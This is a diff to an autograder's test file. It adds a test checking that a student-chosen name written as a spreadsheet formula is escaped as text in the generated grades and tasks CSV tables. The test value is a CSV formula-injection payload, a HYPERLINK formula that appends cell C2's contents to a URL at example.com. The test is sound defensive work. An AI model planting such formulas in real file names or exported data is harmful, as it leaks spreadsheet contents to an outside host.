@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import subprocess
 import sys
 from pathlib import Path
@@ -12,6 +13,7 @@ from nbgrader.dbutil import _temp_alembic_ini
 from sqlalchemy import text
 
 from autograder.feedback import OUTPUT_NOTE, QUOTE_NOTE, hide_hidden_tests
+from autograder.report import GRADES_CSV, TASKS_CSV, Row, write_tables
 from autograder.submissions import LayoutError, find_submissions
 
 KNOWN = ["00_gpu_detection", "01_jit_compilation"]
@@ -167,3 +169,15 @@ def test_a_new_gradebook_is_stamped_without_an_alembic_process(
     with nbgrader.api.Gradebook(f"sqlite:///{tmp_path / 'course' / 'gradebook.db'}") as book:
         version = book.db.execute(text("SELECT version_num FROM alembic_version")).scalar_one()
     assert version == alembic_head()
+
+
+def test_a_student_name_that_is_a_formula_stays_text_in_the_tables(tmp_path: Path) -> None:
+    """A student chooses their file name: a spreadsheet must not run it as a formula."""
+    name = '=HYPERLINK("http://example.com/?"&C2,"eve")'
+    row = Row(name, "00_gpu_detection", 3.0, 12.0, "graded", {"task1-visible": 1.0})
+    for _ in range(2):  # graded again: the row is replaced, not duplicated
+        write_tables(tmp_path, [row], {"00_gpu_detection": {"task1-visible": 1.0}})
+    for table in (GRADES_CSV, TASKS_CSV):
+        with (tmp_path / table).open(newline="", encoding="utf-8") as f:
+            students = [r["student"] for r in csv.DictReader(f)]
+        assert students == ["'" + name], (table, students)
